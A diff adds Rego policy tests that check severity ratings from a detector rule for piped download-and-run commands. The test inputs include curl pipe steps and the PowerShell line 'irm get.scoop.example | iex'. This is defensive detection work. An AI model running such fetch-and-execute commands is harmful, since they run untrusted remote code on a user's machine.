@@ -210,3 +210,15 @@ test_asks_about_who_the_skill_names if {
 	severities(rule.findings) == {"medium"} with input as started("scripts/a.py", "https://raw.githubusercontent.com/a/b/x", {"ran": true})
 	severities(rule.findings) == {"medium"} with input as started("scripts/a.py", "https://${value}/x", {"ran": true})
 }
+
+test_fires_little_on_a_name_for_what_others_write if {
+	severities(rule.findings) == {"low"} with input as with_flow({"how": "pipe", "steps": [{"program": "curl", "args": []}]})
+	severities(rule.findings) == {"low"} with input as with_flow({"how": "pipe", "steps": [{"program": "curl", "args": ["-fsSL"]}]})
+	severities(rule.findings) == {"high"} with input as with_flow({"how": "pipe", "steps": [{"program": "curl", "args": ["-K", "x"]}]})
+	severities(rule.findings) == {"high"} with input as with_flow({"how": "pipe", "steps": [{"program": "curl", "args": ["$URL"]}]})
+}
+
+test_fires_less_on_a_vendor_without_a_protocol if {
+	severities(rule.findings) == {"medium"} with input as with_flow({"how": "pipe", "text": "irm get.scoop.sh | iex", "steps": [{"program": "irm", "args": ["get.scoop.sh"]}]})
+	severities(rule.findings) == {"high"} with input as with_flow({"how": "pipe", "text": "irm get.scoop.example | iex", "steps": [{"program": "irm", "args": ["get.scoop.example"]}]})
+}
